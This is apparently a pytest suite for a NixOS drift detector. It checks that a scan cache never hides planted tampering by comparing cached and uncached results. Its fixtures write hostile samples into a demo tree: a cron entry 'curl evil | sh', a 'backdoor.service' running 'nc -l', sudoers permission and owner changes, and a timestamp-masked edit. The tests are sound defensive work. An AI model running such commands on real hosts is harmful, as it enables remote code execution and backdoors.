"""The scan index never hides drift: on the demo host (real nix, real git), a check leaves its
answer; each drift is then planted the way a person would plant it (the demo's 13, and a chmod, a
chown by a user `useradd` made, a link replaced, a file in a new directory, a new unit file, a
same-size rewrite with its mtime set back) and the next check, through the CLI where the quick path
answers first, reports exactly what a check without any cache reports."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hostscan import in_host_namespace
from nixdrift import answer, scanindex
from nixdrift.capture.statcache import RACY_NS
from nixdrift.demo.planters import BuiltHost
from nixdrift.demo.scenario import DRIFTS

pytestmark = pytest.mark.nix
HEADER = "from the previous check at"


def check(
    built: BuiltHost, cache: Path, *extra: str, fmt: str = "json", codes: tuple[int, ...] = (0, 1)
) -> subprocess.CompletedProcess[str]:
    argv = [sys.executable, "-m", "nixdrift", "check", "--root", str(built.root), "--flake", str(built.flake)]
    argv += ["--host", built.name, "--cache-dir", str(cache), "--format", fmt, *extra]
    env = {**os.environ, "NIXDRIFT_QUIET": "1"}
    proc = subprocess.run(argv, capture_output=True, text=True, timeout=600, env=env)
    assert proc.returncode in codes, proc.stderr
    return proc


def normal(proc: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    """The JSON report without the times a scan stamps on it."""
    doc: dict[str, Any] = json.loads(proc.stdout)
    doc.pop("generated_at")
    for f in doc["findings"]:
        f.pop("first_seen")
        f.pop("last_seen")
    return doc


def settle() -> None:
    """Wait until everything planted so far is older than the racy window (a scan that raced with
    a change is not indexed: the next check looks again)."""
    until = time.time_ns() + RACY_NS + 50_000_000
    deadline = time.monotonic() + 30
    while time.time_ns() <= until:
        assert time.monotonic() < deadline, "the clock did not move"
        time.sleep(0.05)


def answer_dir(built: BuiltHost, cache: Path) -> Path:
    return answer.check_dir(cache, str(built.root), str(built.flake), built.name)


def indexed(built: BuiltHost, cache: Path) -> tuple[subprocess.CompletedProcess[str], dict[str, Any]]:
    """A check on a settled host, and the answer it left (which must hold as long as nothing changes)."""
    settle()
    proc = check(built, cache, "--fresh")
    meta = answer.read(answer_dir(built, cache))
    assert meta is not None and meta["validity"]["kind"] == "inputs", f"no answer left: {proc.stderr}"
    assert scanindex.still_valid(answer_dir(built, cache), meta)
    return proc, meta


def _same_size_rewrite(built: BuiltHost) -> None:
    copy = built.root / "etc" / "sudoers.d" / "10-deploy"  # a managed copy: compared byte for byte
    before = os.lstat(copy)
    text = copy.read_text()
    edited = text.replace("alice", "mally")
    assert edited != text and len(edited) == len(text)
    copy.write_text(edited)
    os.utime(copy, ns=(before.st_atime_ns, before.st_mtime_ns))  # `touch -d`: the mtime as it was


def _replace_link(built: BuiltHost) -> None:
    etc = built.root / "etc"
    link = next(p for p in sorted(etc.iterdir()) if p.is_symlink() and os.readlink(p).startswith("/etc/static/"))
    link.unlink()
    link.symlink_to("/etc/static/motd")


def _new_unit_file(built: BuiltHost) -> None:
    units = built.root / "run" / "systemd" / "system"
    units.mkdir(parents=True, exist_ok=True)
    (units / "backdoor.service").write_text("[Service]\nExecStart=/bin/sh -c 'nc -l 4445'\n")


EXTRA: tuple[tuple[str, Callable[[BuiltHost], object]], ...] = (
    ("chmod 0644 /etc/sudoers.d/10-deploy", lambda b: b.chmod_etc("sudoers.d/10-deploy", 0o644)),
    ("a file in a new directory", lambda b: b.add_etc_file("cron.hourly.d/fetch", "curl evil | sh\n")),
    ("a managed link pointed elsewhere", _replace_link),
    ("a new unit file in /run/systemd/system", _new_unit_file),
    ("a same-size rewrite of a managed copy, its mtime set back", _same_size_rewrite),
)
NEEDS_SHADOW = all(shutil.which(t) for t in ("unshare", "useradd", "chown")) and os.geteuid() == 0


def test_no_planted_drift_is_hidden_by_the_previous_answer(demo_built: BuiltHost, tmp_path: Path) -> None:
    built = demo_built
    cache = tmp_path / "cache"
    check(built, cache)  # the evaluation cache (nix eval ran: that scan is not indexed)
    plants: list[tuple[str, Callable[[BuiltHost], object]]] = [(d.what, d.plant) for d in DRIFTS]
    plants += EXTRA
    if NEEDS_SHADOW:
        chown = "useradd eve && chown eve /etc/sudoers.d/10-deploy"
        plants.append((chown, lambda b: in_host_namespace(b, "useradd -M eve", "chown eve /etc/sudoers.d/10-deploy")))
    for what, plant in plants:
        before, meta = indexed(built, cache)
        plant(built)
        assert not scanindex.still_valid(answer_dir(built, cache), meta), f"{what}: the answer still holds"
        after = check(built, cache)
        truth = check(built, cache, "--no-cache")
        assert HEADER not in after.stderr, what
        assert normal(after) == normal(truth), what
        assert normal(truth) != normal(before), f"{what}: planted nothing a check sees"


def test_an_unchanged_host_is_answered_and_the_answer_is_the_scan_s_output(
    demo_built: BuiltHost, tmp_path: Path
) -> None:
    built = demo_built
    cache = tmp_path / "cache"
    built.commit_dirty_edit()  # some drift, so that the answer says something
    check(built, cache, fmt="text")
    settle()
    scanned = check(built, cache, "--fresh", fmt="text")
    answered = check(built, cache, fmt="text")
    lines = answered.stdout.split("\n")
    assert lines[1].startswith(HEADER), answered.stdout[:500]
    assert "\n".join(lines[:1] + lines[2:]) == scanned.stdout
    assert (answered.stderr, answered.returncode) == (scanned.stderr, scanned.returncode)
    as_json = check(built, cache)
    assert f"nixdrift: {HEADER}" in as_json.stderr
    assert normal(as_json) == normal(check(built, cache, "--no-cache"))


def test_a_damaged_cut_short_or_foreign_manifest_means_a_fresh_scan(demo_built: BuiltHost, tmp_path: Path) -> None:
    built = demo_built
    cache = tmp_path / "cache"
    check(built, cache)
    truth = normal(check(built, cache, "--no-cache"))
    for damage in ("flip", "cut", "foreign"):
        _, meta = indexed(built, cache)
        inputs = answer_dir(built, cache) / f"answer-{meta['token']}.inputs"
        raw = inputs.read_bytes()
        if damage == "flip":
            raw = raw[:-20] + bytes([raw[-20] ^ 0x01]) + raw[-19:]
        elif damage == "cut":
            raw = raw[: len(raw) // 2]
        else:
            raw = raw.replace(scanindex.FORMAT.encode(), b"nixdrift-scanindex 0")
        inputs.write_bytes(raw)
        after = check(built, cache)
        assert HEADER not in after.stderr, damage
        assert normal(after) == truth, damage


def test_a_scan_that_ran_a_process_leaves_no_answer(demo_built: BuiltHost, tmp_path: Path) -> None:
    built = demo_built
    cache = tmp_path / "cache"
    settle()
    check(built, cache)  # an evaluation cache miss: `nix eval` ran
    assert answer.read(answer_dir(built, cache)) is None
    indexed(built, cache)
    for entry in cache.glob("*.json"):  # the evaluation cache: the next scan runs nix again
        if not entry.name.startswith("digests-"):
            entry.unlink()
    check(built, cache, "--fresh")
    assert answer.read(answer_dir(built, cache)) is None  # and the previous answer is gone with it


def test_a_check_of_the_live_host_leaves_no_answer(demo_built: BuiltHost, tmp_path: Path) -> None:
    """The live root (the fixture's /etc and /run bound over the machine's in a private namespace):
    the kernel's host name, /proc and D-Bus are no files, so no answer is ever published there."""
    built = demo_built
    cache = tmp_path / "cache"
    argv = [sys.executable, "-m", "nixdrift", "check", "--flake", str(built.flake), "--host", built.name]
    argv += ["--cache-dir", str(cache), "--format", "json", "--max-age", "0", "--not-nixos-ok"]
    script = "\n".join(
        [
            "set -eu",
            "mount --make-rprivate /",
            f"mount --bind {built.root}/etc /etc",
            f"mount --bind {built.root}/run /run",
            'exec "$@"',
        ]
    )
    env = {**os.environ, "NIXDRIFT_QUIET": "1"}
    for _ in range(2):  # the second with the evaluation cache warm: no `nix eval`
        settle()
        proc = subprocess.run(
            ["unshare", "-m", "-n", "bash", "-c", script, "check", *argv],
            capture_output=True,
            text=True,
            timeout=600,
            env=env,
        )
        assert proc.returncode in (0, 1, 2) and proc.stdout.startswith("{"), proc.stderr
    assert list(cache.glob("digests-*.json")), "the check did not use this cache directory"
    assert list(cache.glob("answers/*/answer.json")) == []


def test_a_check_that_could_not_scan_a_category_leaves_no_answer(demo_built: BuiltHost, tmp_path: Path) -> None:
    """A category `unavailable` (here: no captured units.json) means a check that could not look:
    the next check must look again, not print this one's answer."""
    built = demo_built
    cache = tmp_path / "cache"
    check(built, cache)
    indexed(built, cache)
    (built.root / ".nixdrift" / "units.json").unlink()
    settle()
    proc = check(built, cache, codes=(2,))
    assert json.loads(proc.stdout)["categories"]["services"].startswith("unavailable")
    assert answer.read(answer_dir(built, cache)) is None
    again = check(built, cache, codes=(2,))
    assert HEADER not in again.stderr


def test_rewrites_racing_with_the_checks_are_never_hidden(demo_built: BuiltHost, tmp_path: Path) -> None:
    """Same-size rewrites of a managed copy, each with its mtime set back, right before each check
    (within the racy window: such a scan is not indexed, so the next one looks again)."""
    built = demo_built
    cache = tmp_path / "cache"
    check(built, cache)
    indexed(built, cache)
    copy = built.root / "etc" / "sudoers.d" / "10-deploy"
    original = copy.read_text()
    for text in (original.replace("alice", "mally"), original, original.replace("alice", "trudy")):
        before = os.lstat(copy)
        copy.write_text(text)
        os.utime(copy, ns=(before.st_atime_ns, before.st_mtime_ns))
        after = check(built, cache)
        assert HEADER not in after.stderr
        assert normal(after) == normal(check(built, cache, "--no-cache")), text
